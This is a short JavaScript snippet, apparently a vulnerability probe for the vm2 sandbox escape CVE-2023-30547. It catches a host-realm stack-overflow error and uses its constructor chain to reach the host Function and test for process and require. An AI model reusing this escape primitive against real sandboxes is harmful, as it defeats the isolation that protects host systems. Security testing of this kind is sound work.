// vm2 (CVE-2023-30547): an error made at the end of the stack comes from the host.
let caught = null;
const dive = () => {
  try {
    dive();
  } catch (error) {
    caught = caught ?? error;
  }
};
dive();
const kind = caught.constructor.constructor('return typeof process + typeof require + typeof std + typeof os')();
return kind === 'undefinedundefinedundefinedundefined' ? null : kind;
